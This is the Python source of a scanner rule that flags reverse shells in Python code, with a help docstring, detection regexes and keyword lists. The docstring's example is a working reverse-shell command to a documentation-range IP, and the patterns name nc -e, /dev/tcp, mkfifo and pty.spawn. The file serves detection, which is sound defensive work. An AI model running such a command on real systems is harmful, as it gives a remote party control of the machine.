"""What it sees
    A shell whose input and output are a network connection: `os.dup2(socket.fileno(), ...)` with a shell,
    `pty.spawn` after a connection, `/dev/tcp/`, `nc -e`, and commands read from a socket and executed.

Why it matters
    It hands the machine to whoever listens at the other end.

Example
    subprocess.run("bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'", shell=True)

What to do
    Do not install or run it. If it ran, disconnect the machine and treat it as controlled by somebody else.

False alarms
    Exploitation frameworks and their lessons hold such lines as text; only lines that are executed are reported.

References
    ATT&CK T1059.004 (Unix Shell), T1059.006, T1095 (Non-Application Layer Protocol).
"""

import re
from collections.abc import Iterator

from lazaretto.detect.pycode import command_of, once, short, starts_process
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.py_facts import Call
from lazaretto.parse.py_values import UNKNOWN
from lazaretto.parse.py_words import terms
from lazaretto.parse.python import PythonModule

_LINE = N_("opens a shell to another machine: {command}")
_DUP = N_("connects a shell's input and output to a network connection")

_SHELL = re.compile(
    r"/dev/(?:tcp|udp)/|\bnc(?:at)?\b[^\n|]{0,80}\s-[a-z]*e[a-z]*\s|mkfifo\s[^\n]{1,120}\bnc\b|bash\s+-i\s|socket\.socket\([^\n]{1,400}(?:dup2|/bin/sh|pty\.spawn)"
    r"|s\.connect\([^\n]{1,300}(?:/bin/(?:ba)?sh|cmd\.exe)|TCPSocket\.(?:open|new)|fsockopen\(|Net\.Sockets\.TCPClient",
    re.IGNORECASE,
)
_SHELLS = re.compile(r"(?:^|[/\s])(?:ba|z|da|k)?sh\b|cmd(?:\.exe)?\b|powershell", re.IGNORECASE)
_SIGNS = terms(
    b"dup2",
    b"/dev/tcp",
    b"/dev/udp",
    b"nc -",
    b"ncat ",
    b"pty.spawn",
    b"import pty",
    b"bash -i",
    b"TCPClient",
    b"mkfifo",
    b".connect((",
    b"create_connection",
    b"-e /bin/",
    b"-e cmd",
    b"-c /bin/",
)


def check(view: PythonModule) -> Iterator[Match]:
    """Yield reverse shells."""
    if not view.speaks("process") or not view.mentions(_SIGNS):
        return
    seen: set[object] = set()
    dups = [call for call in view.facts.calls if call.name == "os.dup2"]
    sockets = any(
        call.name == "socket.socket" or call.attr in {"connect", "create_connection"} for call in view.facts.calls
    )
    for call in view.facts.calls:
        if not starts_process(call):
            continue
        command = command_of(call)
        if _SHELL.search(command) and once(seen, call.line):
            yield Match(
                _LINE,
                call.line,
                call.column,
                params={"command": short(command)},
                excerpt=view.quote(call.line),
                confidence=Confidence.MEDIUM if view.is_test else Confidence.HIGH,
                phase=view.phase(call.scope),
                layers=call.layers,
            )
        elif (
            sockets
            and _SHELLS.search(command)
            and (
                _same(dups, call.scope)
                or (call.name == "pty.spawn" and _near(view, call.scope))
                or _is_wired(call)
                or _is_fed(view, call)
            )
            and once(seen, call.line)
        ):
            yield Match(
                _DUP,
                call.line,
                call.column,
                excerpt=view.quote(call.line),
                confidence=Confidence.MEDIUM if view.is_test else Confidence.HIGH,
                phase=view.phase(call.scope),
                layers=call.layers,
            )


def _same(dups: "list", scope: str) -> bool:  # type: ignore[type-arg]
    return any(dup.scope == scope for dup in dups)


def _is_wired(call: Call) -> bool:
    """Tell whether a program is started with a connection as its input."""
    given = call.kwargs.get("stdin", UNKNOWN).name
    return given.startswith(("socket.socket()", "socket.create_connection()", "ssl.wrap_socket()"))


def _is_fed(view: PythonModule, call: Call) -> bool:
    """Tell whether what comes over the connection is written to a program's input."""
    if "stdin" not in call.kwargs or not call.name.endswith(".Popen"):
        return False
    return any(
        other.attr in {"write", "communicate", "send"}
        and other.name.startswith(f"{call.name}()")
        and {"net", "net~"} & other.tags()
        for other in view.facts.calls
    )


def _near(view: PythonModule, scope: str) -> bool:
    return any(call.attr == "connect" and call.scope == scope for call in view.facts.calls)


RULE = Rule(
    id="py/reverse-shell",
    title=N_("Opens a shell to another machine"),
    view=PythonModule,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    phase=Phase.RUN,
    role=Role.EXECUTE,
    check=check,
    doc=__doc__ or "",
    techniques=("T1059.004", "T1095"),
)
